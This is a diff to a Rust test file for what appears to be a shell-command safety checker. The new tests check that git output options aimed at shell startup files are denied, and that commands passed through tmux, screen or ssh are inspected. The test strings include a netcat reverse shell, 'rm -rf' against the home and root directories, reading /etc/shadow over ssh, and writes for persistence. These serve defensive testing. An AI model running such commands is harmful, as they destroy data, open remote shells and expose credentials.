@@ -384,7 +384,11 @@ fn history_impairment_asks_under_check_21() {
 /// plain `setsid CMD` in a script waits for it.
 #[test]
 fn a_forked_setsid_is_detached_execution() {
-    for cmd in ["setsid -f sleep 100", "setsid --fork sleep 1", "setsid -wf make"] {
+    for cmd in [
+        "setsid -f sleep 100",
+        "setsid --fork sleep 1",
+        "setsid -wf make",
+    ] {
         expect_check(cmd, Verdict::Ask, 10);
     }
     for cmd in ["setsid sleep 1", "setsid -w ls"] {
@@ -420,5 +424,67 @@ fn a_downloaded_file_run_by_the_same_command_is_denied() {
         let e = eval(cmd);
         assert!(!e.findings.iter().any(|f| f.id == 15), "{cmd}: {e:#?}");
         assert_eq!(e.verdict, Verdict::Ask, "{cmd}");
+    }
+}
+
+/// git writes its output where `--output`, `--output-directory` or (for `format-patch` and
+/// `archive`) `-o` says: a persistence target there is denied like `> ~/.bashrc`.
+#[test]
+fn git_output_options_are_write_targets() {
+    for c in [
+        "git log --pretty=format:%H --output=/home/u/.bashrc",
+        "git diff --output /home/u/.profile",
+        "git -C . show HEAD --output=/home/u/.zshrc",
+        "git format-patch -o /home/u/.config/autostart HEAD~1",
+        "git archive -o /home/u/.bashrc HEAD",
+    ] {
+        expect(c, Verdict::Deny, "exec.deny.check.persistence_target");
+    }
+    for c in [
+        "git diff --output-indicator-new=+ x",
+        "git log --oneline -o x",
+    ] {
+        assert!(!eval(c).findings.iter().any(|f| f.id == 21), "{c}");
+    }
+}
+
+/// Command lines run elsewhere: a tmux session, window, pane or typed keys, a screen
+/// window or stuffed text, a remote shell. They are walked like `sh -c` strings, so a
+/// command denied here is denied there (it was an `unlisted` or `network` ask that an
+/// operator's allowlist of the program would lift); the carrier itself never allows.
+#[test]
+fn multiplexer_and_remote_command_lines_are_walked() {
+    for c in [
+        "tmux new -d 'nc -e sh x 4444'",
+        "tmux new-session -d -s s 'rm -rf ~'",
+        "tmux split-window -h -t 0 'rm -rf ~'",
+        "tmux send-keys -t 0 'rm -rf ~' Enter",
+        "tmux send-keys -l 'rm -rf /'",
+        "tmux -c 'rm -rf ~'",
+        "tmux new -d \\; send-keys 'rm -rf /' Enter",
+        "screen -dm bash -c 'rm -rf ~'",
+        "screen -dmS x rm -rf /",
+        "screen -X stuff 'rm -rf ~\\n'",
+        "screen -S x -X stuff 'rm -rf ~\\n'",
+        "ssh host 'rm -rf ~'",
+        "ssh -p 2222 -i key user@host rm -rf /",
+        "ssh host cat /etc/shadow",
+    ] {
+        assert_eq!(eval(c).verdict, Verdict::Deny, "{c}: {:#?}", eval(c));
+    }
+    for c in [
+        "tmux new -d 'ls'",
+        "tmux new-session -d -s build 'make test'",
+        "tmux send-keys -t build 'ls -la' C-m",
+        "tmux send-keys -t 0 C-c",
+        "tmux ls",
+        "screen -dm ls",
+        "screen -r x",
+        "screen -x $P -p 0 -X stuff \"$(printf 'stop\\r')\"",
+        "ssh host ls",
+        "ssh host",
+        "ssh host \"$CMD\"",
+    ] {
+        assert_eq!(eval(c).verdict, Verdict::Ask, "{c}: {:#?}", eval(c));
     }
 }
